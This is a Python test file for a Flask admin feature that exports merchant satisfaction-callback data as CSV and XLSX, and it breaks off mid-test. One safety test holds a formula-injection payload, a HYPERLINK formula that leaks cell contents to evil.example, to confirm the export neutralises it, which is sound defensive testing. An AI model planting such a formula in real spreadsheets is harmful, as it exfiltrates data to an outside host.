"""The satisfaction export: rows and columns, filters, scope, files, streaming, audit."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date, datetime, timedelta, timezone
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import sqlalchemy as sa
from flask_babel import gettext
from flask_login import login_user
from markupsafe import escape

from circle.audit.models import AuditAction, AuditRecord
from circle.issues import sla, workcalendar
from circle.issues.models import Callback, Issue, IssueCategory
from circle.reports import export_rows, exporting
from circle.timeutil import format_local, local_zone, to_local
from tests import factories as f

URL = "/admin/satisfaction-export/"
BOM = b"\xef\xbb\xbf"
HEADER_MSGIDS = ["Issue no.", "12345 work-order no.", "Shop name", "Business circle",
                 "Community", "Category", "Severity", "Highest level", "Reported at",
                 "First on site", "Responded at", "Resolved at", "Response on time",
                 "Resolution on time", "First rating at", "First rating", "Final rating at",
                 "Final rating", "Resolved (per merchant)", "Called by", "Comments",
                 "Unreachable at", "Calls", "Calls reached", "Re-handlings"]
#: Each column's position, by its key.
COL = {column.key: index for index, column in enumerate(exporting.COLUMNS)}
T0 = datetime(2024, 6, 10, 1, 0, tzinfo=timezone.utc)  # 09:00 in Shanghai


def letter(key: str) -> str:
    """The spreadsheet column letter of an export column."""
    return openpyxl.utils.get_column_letter(COL[key] + 1)


def text(message, **kwargs) -> str:
    """A message as the page shows it: translated in the test's locale, HTML-escaped."""
    return str(escape(gettext(message, **kwargs)))


def headers() -> list[str]:
    """The header row in the default language (Chinese, where translated)."""
    return [gettext(msgid) for msgid in HEADER_MSGIDS]


def called_back(circle, *, reported_at=T0, rating="satisfied", resolved=True,
                called_at=None, comments="很好", severity="small", highest_level=2,
                category=None, unreachable=False, caller=None, on_site_in=timedelta(hours=1),
                resolved_in=timedelta(hours=3), response_budget=timedelta(hours=2),
                resolution_budget=timedelta(hours=4), rehandle_count=0, **kwargs):
    """An issue that went through its loop and got its callback(s)."""
    merchant = kwargs.pop("merchant", None) or f.MerchantFactory(circle=circle)
    resolved_at = reported_at + resolved_in
    issue = f.IssueFactory(
        merchant=merchant, severity=severity, highest_level=highest_level,
        level=highest_level, status="closed", reported_at=reported_at,
        first_on_site_at=reported_at + on_site_in if on_site_in is not None else None,
        resolved_at=resolved_at, closed_at=resolved_at + timedelta(hours=1),
        response_due_at=reported_at + response_budget,
        resolution_due_at=reported_at + resolution_budget,
        rehandle_count=rehandle_count, **({"category": category} if category else {}), **kwargs,
    )
    called_at = called_at or resolved_at + timedelta(hours=1)
    if unreachable:
        for attempt in range(3):
            f.db.session.add(Callback(issue=issue, called_at=called_at + timedelta(hours=attempt),
                                      called_by=caller, reached=False,
                                      comments=f"第{attempt + 1}次未接通"))
        issue.callback_unreachable = True
    else:
        f.db.session.add(Callback(issue=issue, called_at=called_at, called_by=caller,
                                  reached=True, resolved_per_merchant=resolved, rating=rating,
                                  comments=comments))
        issue.rating = rating
    f.db.session.flush()
    return issue


@pytest.fixture
def staff(browser, data):
    assert browser.login("staff").status_code == 302
    return browser


def download(browser, **params):
    """Ask for an export; the (streamed) body is read at once, as a browser would."""
    params.setdefault("download", "1")
    response = browser.get(URL, query_string=params)
    response.get_data()
    return response


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM):].decode("utf-8"), newline="")))


def read_xlsx(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return workbook.worksheets[0]


def ids_in(rows) -> set[int]:
    return {int(row[0]) for row in rows[1:]}


LEVELS_ZH = {1: "一级 · 商圈联络员", 2: "二级 · 社区热线专员", 3: "三级 · 联合现场办公",
             4: "四级 · 座谈会"}


def expected_row(issue: Issue, *, as_csv: bool = True) -> list[str]:
    """What the CSV (or, with ``as_csv=False``, the XLSX) says about an issue, computed from
    the database independently. The CSV wraps the work-order number as ``="…"`` so that
    spreadsheets keep it as text."""
    calls = sorted(issue.callbacks, key=lambda c: (c.called_at, c.id))
    ratings = [c for c in calls if c.reached and c.rating]
    first, final = (ratings[0], ratings[-1]) if ratings else (None, None)
    closing = calls[-1] if issue.callback_unreachable else None
    now = datetime.now(timezone.utc)
    calendar = workcalendar.load_calendar()

    def yes_no(state):
        return gettext("Yes") if state == sla.SlaState.MET else gettext("No")

    ratings_zh = {"very_satisfied": "非常满意", "satisfied": "满意",
                  "basically_satisfied": "基本满意", "dissatisfied": "不满意",
                  "very_dissatisfied": "非常不满意", None: ""}
    responded = min(m for m in (issue.first_on_site_at, issue.resolved_at) if m)
    return [
        str(issue.id),
        (f'="{issue.work_order_no}"' if as_csv else issue.work_order_no)
        if issue.work_order_no else "",
        issue.merchant.shop_name, issue.circle.name,
        issue.circle.community.name, issue.category.name,
        {"small": "小事", "big": "大事", "hard": "难事"}[issue.severity],
        LEVELS_ZH[issue.highest_level],
        format_local(issue.reported_at), format_local(issue.first_on_site_at),
        format_local(responded), format_local(issue.resolved_at),
        yes_no(sla.response_state(issue, now, calendar)),
        yes_no(sla.resolution_state(issue, now, calendar)),
        format_local(first.called_at) if first else "", ratings_zh[first and first.rating],
        format_local(final.called_at) if final else "", ratings_zh[final and final.rating],
        ("是" if final.resolved_per_merchant else "否") if final else "",
        final.called_by.display_name if final and final.called_by else "",
        final.comments if final else "",
        format_local(closing.called_at) if closing else "",
        str(len(calls)), str(sum(1 for c in calls if c.reached)), str(issue.rehandle_count),
    ]


# --- access -------------------------------------------------------------------------------

@pytest.mark.parametrize("role", ["liaison", "specialist"])
def test_only_staff_and_admins_may_export(browser, data, role):
    browser.login(role)
    assert browser.get(URL).status_code == 403
    assert download(browser).status_code == 403


def test_anonymous_visitors_go_to_the_login_page(client, data):
    response = client.get(URL)
    assert response.status_code == 302 and "/login" in response.location


def test_the_form_page(staff, data):
    response = staff.get(URL)
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert 'method="get"' in html and 'name="download"' in html
    assert "东街商圈" in html and "无法联系商户" in html
    assert "reports.js" in html


# --- the CSV ------------------------------------------------------------------------------

def test_csv_round_trip_matches_the_database(admin_browser, db, data):
    caller = data.users["staff"]
    issues = [
        called_back(data.east, caller=caller, work_order_no="GD-2024-0001"),
        # Late on both clocks, resolved per merchant "no", dissatisfied (then re-handled).
        called_back(data.west, caller=caller, rating="dissatisfied", resolved=False,
                    on_site_in=timedelta(hours=5), resolved_in=timedelta(hours=9),
                    severity="big", highest_level=3, rehandle_count=1, comments="还是跳闸"),
        called_back(data.east, unreachable=True, caller=caller),
        # No on-site visit: the response clock stopped when it was resolved.
        called_back(data.east, on_site_in=None, resolved_in=timedelta(minutes=90),
                    highest_level=1, rating="very_satisfied"),
    ]
    waiting = f.IssueFactory(merchant=f.MerchantFactory(circle=data.east), status="resolved",
                             resolved_at=T0)
    db.session.commit()

    response = download(admin_browser, format="csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = read_csv(response)
    assert rows[0] == headers()
    # Headers already translated are Chinese by default.
    assert rows[0][0] == "诉求编号" and rows[0][2] == "商铺名称"
    assert rows[0][COL["first_rating"]] == "首次回访评价"
    assert rows[0][COL["rating"]] == "最终评价"
    by_id = {int(row[0]): row for row in rows[1:]}
    assert waiting.id not in by_id
    assert set(by_id) == {issue.id for issue in issues}
    for issue in issues:
        db.session.refresh(issue)
        assert by_id[issue.id] == expected_row(issue), issue.id
    on_time = slice(COL["response_on_time"], COL["resolution_on_time"] + 1)
    assert by_id[issues[0].id][on_time] == ["是", "是"]
    assert by_id[issues[1].id][on_time] == ["否", "否"]
    assert by_id[issues[2].id][COL["rating"]] == ""
    assert by_id[issues[2].id][COL["unreachable_at"]] != ""
    assert by_id[issues[3].id][COL["response_on_time"]] == "是"


def test_first_and_final_ratings_have_columns_of_their_own(admin_browser, db, data):
    issue = called_back(data.east, rating="dissatisfied", resolved=False, comments="没修好",
                        called_at=T0 + timedelta(days=1))
    db.session.add_all([
        Callback(issue=issue, called_at=T0 + timedelta(days=3), reached=True,
                 resolved_per_merchant=True, rating="basically_satisfied", comments="修好了"),
        # A later call that did not reach the merchant does not replace the rating.
        Callback(issue=issue, called_at=T0 + timedelta(days=4), reached=False, comments=""),
    ])
    issue.rating, issue.rehandle_count = "basically_satisfied", 1
    db.session.commit()
    rows = read_csv(download(admin_browser))
    assert len(rows) == 2
    row = dict(zip(COL, rows[1], strict=True))
    assert (row["first_called_at"], row["first_rating"]) == (
        format_local(T0 + timedelta(days=1)), "不满意")
    assert (row["called_at"], row["rating"], row["resolved_per_merchant"],
            row["comments"]) == (format_local(T0 + timedelta(days=3)), "基本满意", "是", "修好了")
    assert (row["unreachable_at"], row["calls"], row["reached_calls"],
            row["rehandle_count"]) == ("", "3", "2", "1")


def test_an_unreachable_merchant_shows_the_last_attempt(admin_browser, db, data):
    issue = called_back(data.east, unreachable=True, called_at=T0 + timedelta(days=1))
    db.session.commit()
    row = dict(zip(COL, read_csv(download(admin_browser))[1], strict=True))
    assert row["issue_no"] == str(issue.id)
    assert row["unreachable_at"] == format_local(T0 + timedelta(days=1, hours=2))
    assert [row[key] for key in ("first_rating", "rating", "resolved_per_merchant",
                                 "comments", "calls", "reached_calls")] == [
        "", "", "", "", "3", "0"]


def test_withdrawn_issues_are_not_exported(admin_browser, db, data):
    kept = called_back(data.east)
    withdrawn = called_back(data.east, rating="dissatisfied", resolved=False)
    withdrawn.status = "withdrawn"
    db.session.commit()
    assert ids_in(read_csv(download(admin_browser))) == {kept.id}


@pytest.mark.parametrize("params, expected", [
    ({}, {"june_east", "june_west", "july_east", "other_community"}),
    ({"date_from": "2024-06-01", "date_to": "2024-06-30"}, {"june_east", "june_west",
                                                             "other_community"}),
    ({"date_basis": "reported", "date_from": "2024-07-01"}, {"july_east"}),
    ({"date_basis": "reported", "date_to": "2024-05-31"}, {"other_community"}),
    ({"circle": "west"}, {"june_west"}),
    ({"community": "mine"}, {"june_east", "june_west", "july_east"}),
    ({"category": "second"}, {"june_west"}),
    ({"severity": "hard"}, {"july_east"}),
    ({"level": "3"}, {"june_west"}),
    ({"rating": "dissatisfied"}, {"june_west"}),
    ({"rating": "unreachable"}, {"july_east"}),
    ({"rating": "satisfied"}, {"june_east", "other_community"}),
    ({"date_basis": "first_rating", "date_from": "2024-06-01", "date_to": "2024-06-30"},
     {"june_east", "june_west", "other_community"}),
    ({"date_basis": "final_rating", "date_to": "2024-06-01"}, {"other_community"}),
    ({"date_basis": "final_rating", "date_from": "2024-07-01"}, set()),
])
def test_filters(admin_browser, db, data, params, expected):
    other = f.CircleFactory(name="北街商圈")
    second = db.session.scalars(sa.select(IssueCategory).order_by(IssueCategory.id)).all()[1]
    issues = {
        "june_east": called_back(data.east, called_at=datetime(2024, 6, 2, 2, tzinfo=timezone.utc)),
        "june_west": called_back(data.west, rating="dissatisfied", highest_level=3,
                                 category=second,
                                 # 23:30 on 30 June in Shanghai: still June.
                                 called_at=datetime(2024, 6, 30, 15, 30, tzinfo=timezone.utc)),
        "july_east": called_back(data.east, unreachable=True, severity="hard",
                                 reported_at=datetime(2024, 7, 1, 0, tzinfo=timezone.utc),
                                 called_at=datetime(2024, 7, 2, tzinfo=timezone.utc)),
        # Reported in May, called back in June (16:30 UTC on 31 May is 1 June in Shanghai).
        "other_community": called_back(
            other, reported_at=datetime(2024, 5, 20, tzinfo=timezone.utc),
            called_at=datetime(2024, 5, 31, 16, 30, tzinfo=timezone.utc)),
    }
    db.session.commit()
    values = {"west": str(data.west.id), "mine": str(data.community.id),
              "second": str(second.id)}
    params = {key: values.get(value, value) for key, value in params.items()}
    response = download(admin_browser, **params)
    got = ids_in(read_csv(response)) if expected else set()
    if not expected:
        assert "export-notice" in response.get_data(as_text=True)
    assert got == {issues[name].id for name in expected}


def test_the_export_recounts_the_dashboards_figures(admin_browser, db, data):
    """A month's first-callback, final and unreachable figures, counted from the file as its
    columns say, are the dashboard's."""
    from circle.reports.dashboard_queries import period_figures
    from circle.reports.periods import Period

    june = Period(date(2024, 6, 1), date(2024, 6, 30), local_zone())

    def moment(day, hour=10):
        return datetime(2024, 6, day, hour, tzinfo=local_zone()).astimezone(timezone.utc)

    called_back(data.east, called_at=moment(3))
    called_back(data.east, rating="basically_satisfied", resolved=False, called_at=moment(4))
    called_back(data.west, unreachable=True, called_at=moment(30, 22))  # the last call: July
    # First rated in May, dissatisfied; rated again in June, satisfied.
    again = called_back(data.west, rating="dissatisfied", resolved=False, rehandle_count=1,
                        reported_at=moment(1) - timedelta(days=20),
                        called_at=moment(1) - timedelta(days=10))
    db.session.add(Callback(issue=again, called_at=moment(12), reached=True,
                            resolved_per_merchant=True, rating="satisfied"))
    # First rated in June, dissatisfied, then never reached again: unreachable in June.
    lost = called_back(data.east, rating="very_dissatisfied", resolved=True, rehandle_count=1,
                       called_at=moment(5))
    for day in (8, 9, 10):
        db.session.add(Callback(issue=lost, called_at=moment(day), reached=False))
    lost.callback_unreachable = True
    withdrawn = called_back(data.east, rating="dissatisfied", called_at=moment(6))
    withdrawn.status = "withdrawn"
    db.session.commit()
    counts = period_figures(data.users["admin"], june.start, june.end,
                            moment(30, 23)).overall
    dates = {"date_from": "2024-06-01", "date_to": "2024-06-30"}

    def rows(basis):
        return [dict(zip(COL, row, strict=True))
                for row in read_csv(download(admin_browser, date_basis=basis, **dates))[1:]]

    satisfied = {"非常满意", "满意", "基本满意"}
    first = rows("first_rating")
    assert (counts.first_rated, counts.first_satisfied, counts.first_rehandled) == (
        len(first), sum(row["first_rating"] in satisfied for row in first),
        sum(row["rehandle_count"] != "0" for row in first)) == (3, 2, 1)
    final = rows("final_rating")
    assert (counts.rated, counts.satisfied, counts.confirmed) == (
        len(final), sum(row["rating"] in satisfied for row in final),
        sum(row["resolved_per_merchant"] == "是" for row in final)) == (4, 3, 3)
    any_call = rows("callback")
    assert counts.unreachable == sum(
        row["unreachable_at"][:7] == "2024-06" for row in any_call) == 1
    assert withdrawn.id not in {int(row["issue_no"]) for row in any_call}


def test_staff_export_only_their_own_community(staff, db, data):
    mine = called_back(data.east)
    other_circle = f.CircleFactory(name="北街商圈")
    theirs = called_back(other_circle)
    db.session.commit()
    assert ids_in(read_csv(download(staff))) == {mine.id}
    html = staff.get(URL).get_data(as_text=True)
    assert "北街商圈" not in html and other_circle.community.name not in html
    # Asking for the other community by id is refused, not widened or leaked.
    response = download(staff, community=str(other_circle.community_id))
    assert response.status_code == 200 and "attachment" not in response.headers.get(
        "Content-Disposition", "")
    assert text("Choose a community from the list.") in response.get_data(as_text=True)
    response = download(staff, circle=str(other_circle.id))
    assert "Content-Disposition" not in response.headers
    assert theirs.id not in ids_in(read_csv(download(staff)))


# --- the XLSX -----------------------------------------------------------------------------

def test_xlsx_round_trip_with_real_types(admin_browser, db, data):
    caller = data.users["staff"]
    issues = [called_back(data.east, caller=caller, work_order_no="GD-1"),
              called_back(data.west, unreachable=True, caller=caller),
              called_back(data.east, rating="very_dissatisfied", resolved=False,
                          on_site_in=timedelta(hours=3), rehandle_count=2)]
    db.session.commit()
    response = download(admin_browser, format="xlsx")
    assert response.status_code == 200
    assert response.mimetype == exporting.CONTENT_TYPES["xlsx"]
    sheet = read_xlsx(response)
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == headers()
    assert sheet["A1"].font.bold
    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {issue.id for issue in issues}
    for issue in issues:
        db.session.refresh(issue)
        row = by_id[issue.id]
        want = expected_row(issue, as_csv=False)
        for key, column in zip(COL, exporting.COLUMNS, strict=True):
            value = row[COL[key]]
            if value is None:
                assert want[COL[key]] == "", key
            elif column.kind == "int":
                assert isinstance(value, int) and str(value) == want[COL[key]], key
            elif column.kind == "datetime":
                assert isinstance(value, datetime) and value.tzinfo is None, key
                assert value.strftime("%Y-%m-%d %H:%M") == want[COL[key]], key
            else:
                assert value == want[COL[key]], key
        assert row[COL["reported_at"]] == to_local(issue.reported_at).replace(
            tzinfo=None, microsecond=0)
    datetime_cell = sheet.cell(row=2, column=9)
    assert datetime_cell.is_date and datetime_cell.number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(admin_browser, db, data,
                                                          monkeypatch):
    issues = [called_back(data.east) for _ in range(5)]
    db.session.commit()
    monkeypatch.setattr(exporting, "XLSX_MAX_ROWS", 2)
    response = download(admin_browser, format="xlsx")
    assert response.status_code == 200 and response.headers["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    title = gettext("Satisfaction callbacks")
    assert workbook.sheetnames == [title, f"{title} (2)", f"{title} (3)"]
    ids = []
    first_widths = {key: dimension.width
                    for key, dimension in workbook.worksheets[0].column_dimensions.items()}
    for sheet in workbook.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        # Every sheet is a table of its own: the header, frozen and bold, then its rows.
        assert list(rows[0]) == headers() and sheet["A1"].font.bold
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["C"].width == first_widths["C"]
        assert len(rows) <= 3
        ids += [row[0] for row in rows[1:]]
    assert ids == [issue.id for issue in issues]
    entry = db.session.scalar(sa.select(AuditRecord).where(
        AuditRecord.action == AuditAction.EXPORT))
    assert entry.changes["rows"] == 5


# --- safety -------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'


def test_formula_cells_are_neutralised_in_the_csv_and_kept_as_text_in_the_xlsx(
        admin_browser, db, data):
    merchant = f.MerchantFactory(circle=data.east, shop_name="+86超市")
    called_back(data.east, merchant=merchant, comments=FORMULA)
    db.session.commit()
    row = read_csv(download(admin_browser))[1]
    assert row[2] == "'+86超市" and row[COL["comments"]] == "'" + FORMULA
    # An XLSX inline string never runs: the cell holds the merchant's text as typed.
    response = download(admin_browser, format="xlsx")
    sheet = read_xlsx(response)
    assert sheet["C2"].value == "+86超市" and sheet["C2"].data_type == "s"
    comments = sheet[letter("comments") + "2"]
    assert comments.value == FORMULA and comments.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and 't="inlineStr"' in xml


def test_xlsx_widths_fit_the_content_with_chinese_counted_double(admin_browser, db, data):
    circle = f.CircleFactory(community=data.east.community, name="红色商业圈东大街北段步行街")
    merchant = f.MerchantFactory(circle=circle, shop_name="Cafe")
    called_back(circle, merchant=merchant, work_order_no="202411180000123456")
    db.session.commit()
    sheet = read_xlsx(download(admin_browser, format="xlsx"))
    width = {key: sheet.column_dimensions[letter(key)].width for key in COL}
    # 13 Chinese characters take 26 cells; the header "商圈" 4.
    assert width["circle"] >= 26
    assert width["work_order_no"] >= 18
    # The header is wider than "Cafe": it sets the width (Chinese header counted double).
    assert width["shop_name"] >= len("商铺名称") * 2
    assert width["reported_at"] >= len("2024-06-10 09:00")
    assert width["comments"] <= 60


def test_the_level_is_written_in_words(admin_browser, db, data):
    called_back(data.east, highest_level=3)
    db.session.commit()
    assert read_csv(download(admin_browser))[1][COL["highest_level"]] == "三级 · 联合现场办公"
    sheet = read_xlsx(download(admin_browser, format="xlsx"))
    assert sheet[letter("highest_level") + "2"].value == "三级 · 联合现场办公"


def test_control_characters_do_not_break_the_xlsx(admin_browser, db, data):
    called_back(data.east, comments="响铃\x07两次\x0b后挂断")
    db.session.commit()
    sheet = read_xlsx(download(admin_browser, format="xlsx"))
    assert sheet[letter("comments") + "2"].value == "响铃两次后挂断"


# --- audit, file names, messages --------------------------------------------------------

def test_every_export_is_audited(staff, db, data):
    called_back(data.east)
    called_back(data.west)
    db.session.commit()
    response = download(staff, format="xlsx", date_from="2024-06-01", date_to="2024-06-30",
                        rating="satisfied")
    response.get_data()
    entry = db.session.scalar(sa.select(AuditRecord).where(
        AuditRecord.action == AuditAction.EXPORT))
    assert entry.object_type == "satisfaction_export"
    assert entry.actor_id == data.users["staff"].id
    assert entry.changes["rows"] == 2 and entry.changes["format"] == "xlsx"
    assert entry.changes["filters"]["date_from"] == "2024-06-01"
    assert entry.changes["filters"]["rating"] == "satisfied"


def test_file_names_carry_the_date_range(admin_browser, db, data):
    called_back(data.east)
    db.session.commit()
    response = download(admin_browser, date_from="2024-06-01", date_to="2024-06-30")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment")
    name = gettext("Satisfaction callbacks") + "_2024-06-01_2024-06-30.csv"
    if name.isascii():
        assert f'filename="{name}"' in disposition
    else:
        assert "filename=satisfaction-callbacks_2024-06-01_2024-06-30.csv" in disposition
        assert unquote(disposition.split("filename*=UTF-8''")[1]) == name
    assert response.headers["Cache-Control"] == "no-store"
    # Without a start date, the name carries the end date only.
    response = download(admin_browser, date_to="2024-06-30")
    assert "2024-06-30.csv" in response.headers["Content-Disposition"]


def test_chinese_file_names_use_rfc_5987():
    params = exporting.content_disposition("满意度回访_2024-06-01_2024-06-30.csv",
                                           "satisfaction-callbacks_2024-06-01_2024-06-30.csv")
    assert params["filename"] == "satisfaction-callbacks_2024-06-01_2024-06-30.csv"
    assert params["filename*"].startswith("UTF-8''%E6%BB%A1")
    assert unquote(params["filename*"][7:]) == "满意度回访_2024-06-01_2024-06-30.csv"


def test_headers_follow_the_users_language(admin_browser, db, data):
    called_back(data.east)
    db.session.commit()
    admin_browser.submit("/lang/en", {"next": URL}, form_url=URL)
    rows = read_csv(download(admin_browser))
    assert rows[0][:3] == ["Issue no.", "12345 work-order no.", "Shop name"]
    assert rows[1][COL["rating"]] == "Satisfied" and rows[1][6] == "Small matter"
    disposition = download(admin_browser).headers["Content-Disposition"]
    assert "filename*" not in disposition or "Satisfaction" in unquote(disposition)


@pytest.mark.parametrize("params, message", [
    ({"date_from": "2024-13-45"}, "Enter the date as YYYY-MM-DD, e.g. 2024-06-30."),
    ({"date_from": "昨天"}, "Enter the date as YYYY-MM-DD, e.g. 2024-06-30."),
    ({"date_to": "9999-12-31"}, "Choose a date between %(first)d and %(last)d."),
    ({"date_from": "2024-06-30", "date_to": "2024-06-01"},
     "The end date cannot be before the start date."),
    ({"community": "abc"}, "Choose a community from the list."),
    ({"circle": "99999"}, "Choose a business circle from the list."),
    ({"category": "-1"}, "Choose a category from the list."),
    ({"severity": "huge"}, "Choose a severity from the list."),
    ({"level": "9"}, "Choose a level from the list."),
    ({"rating": "happy"}, "Choose a rating from the list."),
    ({"format": "pdf"}, "Choose CSV or XLSX."),
    ({"date_basis": "closed"}, "Choose whether the dates are callback or reported dates."),
])
def test_invalid_filters_show_a_message_and_no_file(admin_browser, db, data, params, message):
    called_back(data.east)
    db.session.commit()
    response = download(admin_browser, **params)
    assert response.status_code == 200
    assert "Content-Disposition" not in response.headers
    html = response.get_data(as_text=True)
    assert "invalid-feedback" in html
    assert text(message, **({"first": 2000, "last": 2100} if "%(" in message else {})) in html
    # The page itself is in Chinese.
    assert "请更正标出的内容" in html
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditRecord).where(
        AuditRecord.action == AuditAction.EXPORT)) == 0


def test_no_matching_rows_is_a_message_not_an_empty_file(admin_browser, db, data):
    called_back(data.east)
    db.session.commit()
    response = download(admin_browser, date_from="2030-01-01")
    assert response.status_code == 200 and "Content-Disposition" not in response.headers
    assert "export-notice" in response.get_data(as_text=True)


# --- the on-time rule ---------------------------------------------------------------------

@pytest.mark.parametrize("on_site_in, resolved_in", [
    (timedelta(hours=1), timedelta(hours=3)),
    (timedelta(hours=2), timedelta(hours=4)),  # exactly on the deadlines: on time
    (timedelta(hours=2, seconds=1), timedelta(hours=4, seconds=1)),
    (None, timedelta(hours=1)),
    (None, timedelta(hours=5)),
])
def test_on_time_agrees_with_the_sla_clocks(db, data, on_site_in, resolved_in):
    issue = called_back(data.east, on_site_in=on_site_in, resolved_in=resolved_in)
    db.session.commit()
    row = db.session.execute(export_rows.export_statement(
        data.users["admin"], exporting.ExportFilters(), local_zone())).one()
    now = datetime.now(timezone.utc)
    calendar = workcalendar.load_calendar()
    assert exporting.response_on_time(row) == (
        sla.response_state(issue, now, calendar) == sla.SlaState.MET)
    assert exporting.resolution_on_time(row) == (
        sla.resolution_state(issue, now, calendar) == sla.SlaState.MET)


def test_an_unfinished_clock_is_not_on_time(db, data):
    issue = called_back(data.east, rating="dissatisfied", resolved=False)
    # Re-handling restarted the resolution clock: not resolved again yet.
    issue.resolved_at, issue.status = None, "dispatched"
    db.session.commit()
    row = db.session.execute(export_rows.export_statement(
        data.users["admin"], exporting.ExportFilters(), local_zone())).one()
    assert exporting.resolution_on_time(row) is False
    assert exporting.on_time(None, None) is None


# --- streaming ----------------------------------------------------------------------------

def _bulk_issues(db, data, n: int) -> None:
    """``n`` called-back issues, inserted in bulk (factories would take minutes)."""
    merchant = f.MerchantFactory(circle=data.east)
    issue = f.IssueFactory(merchant=merchant)
    db.session.flush()
    base = {"merchant_id": merchant.id, "circle_id": data.east.id,
            "category_id": issue.category_id, "source_id": issue.source_id,
            "description": "批量", "severity": "small", "status": "closed", "level": 2,
            "highest_level": 2, "reported_at": T0, "resolved_at": T0 + timedelta(hours=1),
            "response_due_at": T0 + timedelta(hours=2),
            "resolution_due_at": T0 + timedelta(hours=4), "rating": "satisfied",
            "version": 1, "updated_at": T0}
    db.session.execute(sa.insert(Issue), [dict(base, id=1000 + i) for i in range(n)])
    db.session.execute(sa.insert(Callback), [
        {"issue_id": 1000 + i, "called_at": T0 + timedelta(hours=2), "reached": True,
         "resolved_per_merchant": True, "rating": "satisfied", "comments": f"第{i}条",
         "round": 0} for i in range(n)])
    db.session.delete(issue)
    db.session.commit()


def test_the_export_streams_in_batches(app, admin_browser, db, data):
    _bulk_issues(db, data, 3000)
    app.config["CIRCLE_EXPORT_BATCH_SIZE"] = 500
    batches = []

    def count_batches(conn, cursor, statement, parameters, context, executemany):
        if "FROM issue" in statement and "LIMIT" in statement and "AS issue_id" in statement:
            batches.append(statement)

    sa.event.listen(db.engine, "before_cursor_execute", count_batches)
    try:
        response = admin_browser.client.get(URL, query_string={"download": "1"})
        chunks = list(response.response)
    finally:
        sa.event.remove(db.engine, "before_cursor_execute", count_batches)
        response.close()
    # Header + 3000 rows arrive in pieces, one per batch, read by keyset in 7 queries
    # (6 full batches and the empty one that ends it).
    assert len(chunks) >= 6
    assert len(batches) == 7
    body = b"".join(chunks)
    rows = list(csv.reader(io.StringIO(body[len(BOM):].decode("utf-8"), newline="")))
    assert len(rows) == 3001
    assert [int(row[0]) for row in rows[1:]] == list(range(1000, 4000))

    response = admin_browser.client.get(URL, query_string={"download": "1", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True).worksheets[0]
    assert sum(1 for _ in sheet.iter_rows(values_only=True)) == 3001
    sheet.parent.close()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_download_stopped_early_stops_reading(app, db, data, file_format):
    _bulk_issues(db, data, 3000)
    batches = []

    def count_batches(conn, cursor, statement, parameters, context, executemany):
        if "FROM issue" in statement and "LIMIT" in statement:
            batches.append(statement)

    zone, labels = local_zone(), exporting.build_labels()
    stmt = export_rows.export_statement(data.users["admin"], exporting.ExportFilters(), zone)
    if file_format == "csv":
        chunks = exporting.csv_chunks(export_rows.iter_rows(stmt, batch_size=500), labels, zone,
                                      rows_per_chunk=500)
    else:
        chunks = exporting.xlsx_chunks(export_rows.iter_rows(stmt, batch_size=500), labels,
                                       zone, chunk_bytes=1024)
    sa.event.listen(db.engine, "before_cursor_execute", count_batches)
    try:
        assert next(chunks)
        # The client goes away: the generator is closed, the batch read ahead is awaited,
        # nothing more is read and nothing is left open (a warning would fail the test).
        chunks.close()
    finally:
        sa.event.remove(db.engine, "before_cursor_execute", count_batches)
    assert 1 <= len(batches) < 7


def test_the_view_returns_a_streamed_response(app, db, data):
    called_back(data.east)
    db.session.commit()
    staff_id = data.users["staff"].id
    with app.test_request_context(URL + "?download=1&format=csv"):
        from circle.accounts.models import User

        login_user(db.session.get(User, staff_id))
        response = app.view_functions["satisfaction_export.index"]()
        assert response.is_streamed
        assert not isinstance(response.response, (list, tuple, bytes))
        body = b"".join(response.response)
        response.close()
    assert body.startswith(BOM) and len(body.splitlines()) == 2


# --- local times --------------------------------------------------------------------------

@pytest.mark.parametrize("zone, start, end", [
    ("Asia/Shanghai", datetime(1986, 1, 1), datetime(1992, 1, 1)),  # China's DST years
    ("Asia/Shanghai", datetime(2024, 1, 1), datetime(2025, 1, 1)),
    ("America/New_York", datetime(2023, 1, 1), datetime(2025, 1, 1)),
    ("Europe/London", datetime(2023, 1, 1), datetime(2024, 1, 1)),
    ("Australia/Lord_Howe", datetime(2023, 1, 1), datetime(2025, 1, 1)),  # 30-minute DST
    ("Asia/Kathmandu", datetime(1985, 1, 1), datetime(1987, 1, 1)),  # +05:30 to +05:45
    ("Pacific/Apia", datetime(2011, 6, 1), datetime(2012, 6, 1)),  # skipped 30 Dec 2011
    ("America/St_Johns", datetime(2024, 1, 1), datetime(2025, 1, 1)),
])
def test_the_local_clock_agrees_with_astimezone(zone, start, end):
    zone = ZoneInfo(zone)
    clock = exporting.LocalClock(zone)
    moment, step = start, timedelta(minutes=29, seconds=31, microseconds=7)
    while moment < end:
        expected = moment.replace(tzinfo=timezone.utc).astimezone(zone).replace(tzinfo=None)
        assert clock(moment) == expected, moment
        moment += step
    assert clock(None) is None


def test_times_follow_the_configured_zone(app, admin_browser, db, data):
    app.config["CIRCLE_TIMEZONE"] = "America/New_York"
    summer = called_back(data.east, reported_at=datetime(2024, 7, 1, 12, 0, tzinfo=timezone.utc))
    winter = called_back(data.east, reported_at=datetime(2024, 12, 2, 12, 0, tzinfo=timezone.utc),
